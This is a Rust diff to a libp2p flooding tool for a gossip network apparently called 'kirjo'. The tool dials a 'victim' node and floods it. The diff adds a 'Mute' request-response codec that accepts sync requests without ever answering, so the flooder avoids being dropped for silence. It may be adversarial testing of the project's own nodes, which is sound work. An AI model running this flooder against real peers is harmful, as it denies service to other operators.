@@ -7,10 +7,10 @@ use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::thread::JoinHandle;
 use std::time::Duration;
 
-use futures::StreamExt as _;
+use futures::{AsyncRead, AsyncReadExt as _, AsyncWrite, StreamExt as _};
 use libp2p::gossipsub::{self, ConfigBuilder, IdentTopic, MessageAuthenticity, MessageId, ValidationMode};
 use libp2p::swarm::{NetworkBehaviour, SwarmEvent};
-use libp2p::{Multiaddr, Swarm, SwarmBuilder, identify, noise, ping, tcp, yamux};
+use libp2p::{Multiaddr, StreamProtocol, Swarm, SwarmBuilder, identify, noise, ping, request_response, tcp, yamux};
 
 use crate::participant::Participant;
 
@@ -22,8 +22,49 @@ const MAX_TRANSMIT_BYTES: usize = 80 * 1024;
 #[derive(NetworkBehaviour)]
 struct Behaviour {
     gossip: gossipsub::Behaviour,
+    sync: request_response::Behaviour<Mute>,
     identify: identify::Behaviour,
     ping: ping::Behaviour,
+}
+
+/// Takes requests as a node does, so that its silence is not what it is sent away for first, and never answers.
+#[derive(Clone, Default)]
+struct Mute;
+
+impl request_response::Codec for Mute {
+    type Protocol = StreamProtocol;
+    type Request = Vec<u8>;
+    type Response = Vec<u8>;
+
+    async fn read_request<T>(&mut self, _: &StreamProtocol, io: &mut T) -> std::io::Result<Vec<u8>>
+    where
+        T: AsyncRead + Unpin + Send,
+    {
+        let mut bytes = Vec::new();
+        io.take(MAX_TRANSMIT_BYTES as u64).read_to_end(&mut bytes).await?;
+        Ok(bytes)
+    }
+
+    async fn read_response<T>(&mut self, _: &StreamProtocol, _: &mut T) -> std::io::Result<Vec<u8>>
+    where
+        T: AsyncRead + Unpin + Send,
+    {
+        Err(std::io::ErrorKind::Unsupported.into())
+    }
+
+    async fn write_request<T>(&mut self, _: &StreamProtocol, _: &mut T, _: Vec<u8>) -> std::io::Result<()>
+    where
+        T: AsyncWrite + Unpin + Send,
+    {
+        Err(std::io::ErrorKind::Unsupported.into())
+    }
+
+    async fn write_response<T>(&mut self, _: &StreamProtocol, _: &mut T, _: Vec<u8>) -> std::io::Result<()>
+    where
+        T: AsyncWrite + Unpin + Send,
+    {
+        Err(std::io::ErrorKind::Unsupported.into())
+    }
 }
 
 /// A flood under way.
@@ -78,11 +119,15 @@ async fn flood(victim: Multiaddr, network: &str, mut next: impl FnMut() -> Vec<u
     let mut swarm = swarm(network, &topic);
     swarm.dial(victim).expect("an address that can be dialled");
     let mut subscribed = false;
+    let mut unanswered = Vec::new();
     let mut pause = tokio::time::interval(Duration::from_millis(20));
     while !shared.stop.load(Ordering::SeqCst) {
         tokio::select! {
             event = swarm.select_next_some() => match event {
                 SwarmEvent::Behaviour(BehaviourEvent::Gossip(gossipsub::Event::Subscribed { .. })) => subscribed = true,
+                SwarmEvent::Behaviour(BehaviourEvent::Sync(request_response::Event::Message {
+                    message: request_response::Message::Request { channel, .. }, ..
+                })) => unanswered.push(channel),
                 SwarmEvent::ConnectionClosed { .. } => {
                     shared.cut_off.store(true, Ordering::SeqCst);
                     subscribed = false;
@@ -114,6 +159,8 @@ fn swarm(network: &str, topic: &IdentTopic) -> Swarm<Behaviour> {
         .expect("limits that fit together");
     let mut gossip = gossipsub::Behaviour::new(MessageAuthenticity::Anonymous, config).expect("anonymous gossip");
     gossip.subscribe(topic).expect("a topic can be joined");
+    let protocol = StreamProtocol::try_from_owned(format!("/kirjo/{network}/sync/1")).expect("it begins with a slash");
+    let supported = [(protocol, request_response::ProtocolSupport::Full)];
     let version = format!("/kirjo/{network}/1");
     SwarmBuilder::with_new_identity()
         .with_tokio()
@@ -121,6 +168,7 @@ fn swarm(network: &str, topic: &IdentTopic) -> Swarm<Behaviour> {
         .expect("a transport")
         .with_behaviour(|keypair| Behaviour {
             gossip,
+            sync: request_response::Behaviour::new(supported, request_response::Config::default()),
             identify: identify::Behaviour::new(identify::Config::new(version, keypair.public())),
             ping: ping::Behaviour::default(),
         })
